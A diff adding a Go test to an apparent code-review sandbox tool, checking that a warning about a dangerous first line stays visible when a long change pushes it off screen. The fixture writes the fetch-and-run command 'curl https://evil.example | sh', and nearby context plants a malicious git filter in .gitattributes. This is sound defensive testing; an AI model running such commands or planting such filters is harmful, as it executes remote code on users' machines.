@@ -178,6 +178,18 @@ func TestReviewOnATerminal(t *testing.T) {
 	}
 }
 
+// Attack: a change is so long that what is dangerous about it leaves the screen before the
+// question comes.
+func TestAttackALongChangePushesItsDangerAway(t *testing.T) {
+	r := newReviewedRun(t, someFiles, `{ echo 'curl https://evil.example | sh'; seq 500; } >src/long.txt; echo b2 >>src/b.go; echo x >Makefile`, false)
+	r.answers = "q\n"
+	r.wants(r.devc("review", reviewedID), exitOK, "(1 of 2) accept this change to src/long.txt?", "3 changes undecided; to go on: sbx-devc review "+reviewedID)
+	_, end, _ := strings.Cut(r.stderr, "+500")
+	if danger, _, asked := strings.Cut(end, "accept this"); !asked || !strings.Contains(danger, "! line 1: fetches or decodes a program") {
+		t.Errorf("in front of the question stands %q", danger)
+	}
+}
+
 // Attack: a project's hooks and filters run when a person commits what was accepted.
 func TestAttackCommittingRunsNothingOfTheProjects(t *testing.T) {
 	r := newReviewedRun(t, someFiles+`; echo '*.go filter=evil' >.gitattributes`, mixedEdits, false)
